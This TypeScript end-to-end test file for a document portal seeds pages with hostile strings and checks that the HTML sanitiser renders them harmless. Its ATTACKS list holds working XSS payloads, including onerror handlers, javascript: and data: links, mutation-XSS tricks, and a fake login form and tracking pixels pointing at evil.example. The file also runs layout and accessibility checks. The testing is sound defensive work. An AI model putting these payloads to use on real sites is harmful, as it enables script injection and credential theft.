import type { Page } from "playwright-core";
import { expect, test } from "vitest";
import { formatDollars } from "#domain/format.ts";
import { RICH_TEXT_ATTRIBUTES, RICH_TEXT_TAGS } from "#domain/page/rich-text.ts";
import { documentTotal } from "#domain/pricing/document-total.ts";
import { sanitiseHtml } from "#server/html/sanitise-html.ts";
import { workOrders } from "#server/schema/work-orders.ts";
import { cutOffTexts } from "#tests/support/cut-off-texts.ts";
import { expectNoAxeViolations, expectNoAxeViolationsAtAnyWidth } from "#tests/support/expect-accessible.ts";
import { sendAgain } from "#tests/support/factories.ts";
import { HOSTILE_STRINGS } from "#tests/support/hostile-strings.ts";
import { LONG_WORDS, LONG_WORDS_PAGE } from "#tests/support/long-words.ts";
import { printContent } from "#tests/support/print-content.ts";
import { pricedFigures, visibleFigures } from "#tests/support/read-figures.ts";
import { startJourneys } from "#tests/support/start-journeys.ts";
import { storedPage } from "#tests/support/stored-page.ts";
import { casesFor } from "#tests/support/suite-cases.ts";

const WRITER = "writer@demo.test";

/** Each attack sets `attacked` or contacts another host if it gets through. */
const ATTACKS = [
  `<img src="/x" onerror="window.attacked='img'">`,
  `<script>window.attacked='script'</script>`,
  `<svg onload="window.attacked='svg'"><script>window.attacked='svg script'</script></svg>`,
  `<a href="javascript:window.attacked='link'" onclick="window.attacked='click'">press me</a>`,
  `<a href="  java\tscript:window.attacked='spaced link'">press me</a>`,
  `<a href="data:text/html,<script>window.attacked='data'</script>">press me</a>`,
  `<iframe srcdoc="<script>parent.attacked='frame'</script>"></iframe>`,
  `<object data="javascript:window.attacked='object'"></object><embed src="https://evil.example/embed">`,
  `<math><mtext><table><mglyph><style><img src="/x" onerror="window.attacked='math'"></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=/x onerror=window.attacked='noscript'>"></noscript>`,
  `<style>@import "https://evil.example/style.css"; * { background: url(https://evil.example/pixel) }</style>`,
  `<p style="background:url(https://evil.example/pixel)" onmouseover="window.attacked='mouse'">hover over me</p>`,
  `<form action="https://evil.example"><input name="password" autofocus onfocus="window.attacked='focus'"><button>Sign in</button></form>`,
  `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<details open ontoggle="window.attacked='toggle'"><summary>More</summary></details>`,
].join("\n");

const TEXT = `"><img src=/x onerror="window.attacked='text'">`;
const ADDRESS = "javascript:window.attacked='address'";

const PAGE = {
  root: { props: { title: `</title>${TEXT}` } },
  content: [
    { type: "Heading", props: { id: "heading", text: TEXT, size: "title", anchor: TEXT, textColor: TEXT } },
    { type: "Paragraph", props: { id: "paragraph", text: `Before. ${ATTACKS} <strong>After.</strong>` } },
    { type: "List", props: { id: "list", items: [{ title: TEXT }] } },
    { type: "Button", props: { id: "button", text: "A button", link: ADDRESS, backgroundColor: TEXT } },
    { type: "Image", props: { id: "image", src: ADDRESS, alt: TEXT, width: TEXT, sizeMode: "custom" } },
    {
      type: "Container",
      props: {
        id: "container",
        backgroundImage: `x"); background: url(${ADDRESS}`,
        maxWidth: TEXT,
        content: [{ type: "Paragraph", props: { id: "nested", text: ATTACKS } }],
      },
    },
    {
      type: "WorkOrders",
      props: {
        id: "prices",
        globalDiscountName: TEXT,
        globalDiscountPercent: 5,
        workOrderData: { workOrderIds: ["wo-3103"] },
      },
    },
    {
      type: "Footer",
      props: {
        id: "footer",
        businessName: TEXT,
        abn: TEXT,
        address: TEXT,
        termsLink: ADDRESS,
        contactEmail: TEXT,
      },
    },
  ],
};

/** Every string in its own place, in each field for HTML and in the text fields beside it. */
const EACH_STRING = [
  ...HOSTILE_STRINGS.map((text, n) => ({ type: "Paragraph", props: { id: `paragraph-${n}`, text } })),
  {
    type: "ProvenWayOfWorking",
    props: {
      id: "phases",
      phases: HOSTILE_STRINGS.map((one) => ({ name: one, description: one, time: one })),
    },
  },
  {
    type: "Deliverables",
    props: {
      id: "deliverables",
      title: TEXT,
      items: HOSTILE_STRINGS.map((one) => ({ content: `Item. ${one}` })),
    },
  },
  {
    type: "CaseStudies",
    props: {
      id: "cases",
      header: TEXT,
      cards: HOSTILE_STRINGS.map((one) => ({ title: one, summary: one, link: ADDRESS, colour: TEXT })),
    },
  },
  {
    type: "WorkOrders",
    props: { id: "work", workOrderData: { workOrderIds: HOSTILE_STRINGS.map((_, n) => `hostile-${n}`) } },
  },
  { type: "Paragraph", props: { id: "end", text: "The end." } },
];

/** All strings in one text: first those that let the text continue, then those that hide the rest. */
const ALL_STRINGS = HOSTILE_STRINGS.toSorted((one, other) => Number(hides(one)) - Number(hides(other)));

function hides(attack: string): boolean {
  return !sanitiseHtml(`${attack}<p>After.</p>`).includes("After.");
}

// Written directly into the database, without sanitising.
const { browser } = await startJourneys({
  world: LONG_WORDS,
  statements: [
    // Published versions do not change, but their text may be as old as the portal.
    { text: "set session_replication_role = replica", values: [] },
    {
      text: "update unique_documents set puck_state = $1, name = $2, sent_name = $2 where unique_document_id = 'doc-1042'",
      values: [JSON.stringify(PAGE), TEXT],
    },
    {
      text: "update work_orders set description = $1, name = $2, discount_name = $2 where work_order_id = 'wo-3103'",
      values: [ATTACKS, TEXT],
    },
    { text: "update products set product_name = $1, product_unit = $1", values: [TEXT] },
    {
      text: "update general_document_versions set rich_text = $1 where general_document_id = 'general-terms'",
      values: [`<p>Terms.</p>${ATTACKS}`],
    },
    storedPage("doc-1041", { root: {}, content: EACH_STRING }),
    {
      text: "update general_document_versions set rich_text = $1 where general_document_id = 'privacy-acknowledgement'",
      values: [`${ALL_STRINGS.join("<p>And.</p>")}`],
    },
    {
      text: "update notifications set message = $1 where user_profile_id = 'demo-writer'",
      values: [TEXT],
    },
  ],
  prepare: async (db) => {
    const moment = new Date();
    await db.insert(workOrders).values(
      HOSTILE_STRINGS.map((attack, n) => ({
        workOrderId: `hostile-${n}`,
        organizationId: "harbour-coffee",
        externalId: `H-${n}`,
        name: attack,
        description: attack,
        uniqueDocumentId: "doc-1041",
        workOrderStatus: "OPEN" as const,
        isOptional: false,
        doesClientWantWorkDone: false,
        discountPercent: "0",
        createdAt: moment,
        updatedAt: moment,
      })),
    );
    for (const id of ["doc-1042", "doc-1041"]) await sendAgain(db, id);
  },
});

/** Does what a curious person would do; nothing may lead anywhere. */
async function touchEverything(page: Page): Promise<void> {
  const before = page.url();
  for (const words of ["press me", "hover over me", "A button"]) {
    for (const place of await page.getByText(words, { exact: true }).all()) {
      await place.hover();
      await place.click();
    }
  }
  expect(page.url()).toBe(before);
}

/** Fails if a part of an attack remains or has run. */
async function expectHarmless(page: Page): Promise<void> {
  const found = await page.evaluate(() => {
    const everything = [...document.body.querySelectorAll("*")];
    const attributes = everything.flatMap((one) => [...one.attributes]);
    return {
      attacked: (globalThis as { attacked?: string }).attacked,
      handlers: attributes.filter(({ name }) => name.startsWith("on")).map(({ name }) => name),
      addresses: attributes
        .filter(
          ({ name, value }) =>
            ["href", "src", "action"].includes(name) && /^\s*(java|data:text)/i.test(value),
        )
        .map(({ value }) => value),
      elements: [
        ...document.body.querySelectorAll(
          "main :is(script, iframe, object, embed, style, form, input[name], base, meta)",
        ),
      ].map((one) => one.outerHTML),
    };
  });
  expect(found).toEqual({ attacked: undefined, handlers: [], addresses: [], elements: [] });
}

test("BLOCK-18 VIEW-1 a document that is an attack in every field is shown, and does nothing", async () => {
  const page = await browser.openPage("/doc/online-store-and-wholesale-portal", { as: WRITER });
  await page.getByText("After.", { exact: true }).waitFor();
  await page.getByRole("button", { name: "Accept", exact: true }).waitFor();
  await touchEverything(page);
  await expectHarmless(page);
  expect(await page.title()).toContain("</title>");
  // Even a very long word pushes no amount off the paper.
  const paper = page.locator("[data-sheet]");
  expect(await paper.evaluate((one) => one.scrollWidth <= one.clientWidth)).toBe(true);
  // Text fields show HTML as text.
  expect(await page.getByRole("heading", { name: TEXT }).count()).toBeGreaterThan(1);
  await expectNoAxeViolationsAtAnyWidth(page);
  await page.getByRole("button", { name: "Accept", exact: true }).click();
  await page.getByRole("dialog").waitFor();
  await expectHarmless(page);
});

test.each([
  "/work-orders/wo-3103",
  "/general-document/general-terms",
  "/view/doc-1042",
  "/dashboard",
  "/documents/type/PROPOSAL",
])("BLOCK-18 WORK-2 SIGN-2 the same words on %s do nothing", async (path) => {
  const page = await browser.openPage(path, { as: WRITER });
  await page
    .getByText(/onerror|hover over me/)
    .first()
    .waitFor();
  await touchEverything(page);
  await expectHarmless(page);
});

/** Triggers, on every element of the document, the events that attacks wait for, and follows links outside the web. */
async function setOffEverything(page: Page): Promise<void> {
  await page.evaluate(() => {
    const events = ["mouseover", "pointerenter", "focus", "wheel", "copy", "toggle", "beforeinput", "close"];
    const media = ["load", "error", "loadstart", "animationstart", "transitionend", "begin", "start"];
    for (const element of document.querySelectorAll("main *")) {
      for (const name of [...events, ...media]) element.dispatchEvent(new Event(name));
      const isStrange =
        element instanceof HTMLAnchorElement && !/^(https?|mailto|tel):$/.test(element.protocol);
      if (isStrange && element.hasAttribute("href")) element.click();
    }
  });
}

/** Forbidden elements and attributes in people's texts, each as "a[onclick]". */
async function strangersInRichText(page: Page): Promise<string[]> {
  const allowed = { tags: [...RICH_TEXT_TAGS] as string[], attributes: RICH_TEXT_ATTRIBUTES };
  return page.evaluate(({ tags, attributes }) => {
    const attributesByTag: Record<string, readonly string[]> = attributes;
    // The marks that hang are the portal's own.
    const written = document.querySelectorAll(
      ":is(.cp-rich, .rich-text) :not(span.cp-hanging-mark[class='cp-hanging-mark'])",
    );
    return [...written].flatMap((element) => {
      const tag = element.localName;
      const others = [...element.attributes].filter(
        ({ name }) => !(attributesByTag[tag] ?? []).includes(name),
      );
      return [...(tags.includes(tag) ? [] : [tag]), ...others.map(({ name }) => `${tag}[${name}]`)];
    });
  }, allowed);
}

test("BLOCK-18 of 150 strings and more that broke sanitisers, in every text of a document, none runs", async () => {
  expect(new Set(HOSTILE_STRINGS).size).toBeGreaterThanOrEqual(150);
  const page = await browser.openPage("/doc/spring-campaign-cold-brew-on-tap", { as: WRITER });
  await page.getByText("The end.", { exact: true }).waitFor();
  for (const place of [".cp-phase", ".cp-deliverables__list > li", ".cp-case", ".cp-work-order"]) {
    expect(await page.locator(place).count()).toBeGreaterThan(150);
  }
  await setOffEverything(page);
  await expectHarmless(page);
  expect(await strangersInRichText(page)).toEqual([]);
});

test("BLOCK-18 SIGN-2 the same strings in a text to sign", async () => {
  const page = await browser.openPage("/general-document/privacy-acknowledgement", { as: WRITER });
  await page.getByText("And.", { exact: true }).first().waitFor();
  expect(await page.getByText("And.", { exact: true }).count()).toBeGreaterThan(150);
  await setOffEverything(page);
  await expectHarmless(page);
});

test("BLOCK-18 the same strings in what PDFs are made of", async () => {
  const page = await browser.openPage("about:blank");
  await page.setContent(printContent(EACH_STRING));
  await page.getByText("The end.", { exact: true }).waitFor();
  await setOffEverything(page);
  await expectHarmless(page);
  expect(await strangersInRichText(page)).toEqual([]);
});

test.each(casesFor(["/view/doc-long-words"], ["/doc/long-words", "/view/doc-long-words"]))(
  "FIELD-8 CARE-1 on %s every figure and every text can be read at every width, however long the texts are",
  async (path) => {
    const page = await browser.openPage(path, { as: WRITER });
    await page.getByRole("article").getByText("Total inc. GST").first().waitFor();
    const priced = pricedFigures(LONG_WORDS_PAGE);
    const total = documentTotal({ content: LONG_WORDS_PAGE, root: { props: {} } });
    for (const width of [320, 360, 480, 768, 1024, 1280]) {
      await page.setViewportSize({ width, height: 800 });
      expect(await visibleFigures(page, "[data-sheet]"), `at ${width} px`).toEqual(priced);
      expect(await visibleFigures(page, "body"), `the total at ${width} px`).toContain(
        formatDollars(total ?? ""),
      );
      expect(await cutOffTexts(page, "[data-sheet]"), `cut off at ${width} px`).toEqual([]);
      const isTooWide = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth);
      expect(isTooWide, `scrolls sideways at ${width} px`).toBe(false);
    }
  },
);

test("FIELD-8 on a phone a table of fourteen columns scrolls in a box of its own, and its first column stays", async () => {
  const page = await browser.openPage("/view/doc-long-words", { width: 360 });
  const box = page.locator(".rich-table");
  const narrowest = await box
    .locator("tr")
    .first()
    .evaluate((row) => Math.min(...[...row.children].map((cell) => cell.getBoundingClientRect().width)));
  expect(narrowest).toBeGreaterThan(70);
  const edgesOf = (cell: string) =>
    box
      .locator("tr")
      .first()
      .getByText(cell, { exact: true })
      .evaluate((one) => one.getBoundingClientRect().left);
  const [first, second] = [await edgesOf("Deliverable"), await edgesOf("Owner")];
  await box.press("ArrowRight");
  await expect.poll(() => edgesOf("Owner")).toBeLessThan(second);
  expect(await edgesOf("Deliverable")).toBe(first);
  await box.evaluate((one) => one.scrollTo({ left: one.scrollWidth }));
  const last = box.locator("tr").first().getByText("Remarks", { exact: true });
  const end = await last.evaluate((one) => one.getBoundingClientRect().right);
  expect(end).toBeLessThanOrEqual(360);
  await expectNoAxeViolations(page);
});
